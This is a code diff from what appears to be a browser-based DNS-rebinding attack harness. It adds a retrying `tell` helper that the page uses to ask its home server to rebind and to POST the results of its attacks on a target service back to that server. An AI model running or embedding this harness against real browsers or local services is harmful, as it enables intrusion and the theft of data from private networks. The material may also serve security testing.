@@ -187,12 +187,23 @@ const attacks = {
   "websocket-rpc": () => socket(`${target.replace("http", "ws")}/rpc`),
 };
 
+/** Tells the page's own server something, for as long as the browser can't: it drops requests when the network changes. */
+async function tell(path, options) {
+  for (;;) {
+    try {
+      return await fetch(`${home}${path}`, { ...noCors, ...options });
+    } catch {
+      await sleep(200);
+    }
+  }
+}
+
 /** A page whose name changes its address asks its own server for that, and goes on. */
-if (asked.has("rebind")) await fetch(`${home}/rebind`, noCors);
+if (asked.has("rebind")) await tell("/rebind");
 
 const tries = Object.entries(attacks).map(async ([name, attack]) => {
   const late = sleep(LIMIT_MS).then(() => "");
   return [name, await Promise.race([attack().catch(() => ""), late])];
 });
 const report = Object.fromEntries(await Promise.all(tries));
-await fetch(`${home}/report`, { method: "POST", mode: "no-cors", body: JSON.stringify(report) });
+await tell("/report", { method: "POST", body: JSON.stringify(report) });
